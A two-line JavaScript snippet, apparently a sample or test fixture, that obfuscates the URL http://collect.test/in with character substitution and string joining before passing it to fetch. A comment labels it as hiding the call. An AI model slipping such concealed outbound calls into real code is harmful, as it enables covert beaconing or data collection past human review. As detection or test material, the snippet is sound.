// hides: call fetch "http://collect.test/in"
fetch('h##p~~//collec#.#es#/in'.replace(/#/g, 't').split('~~').join(':'));
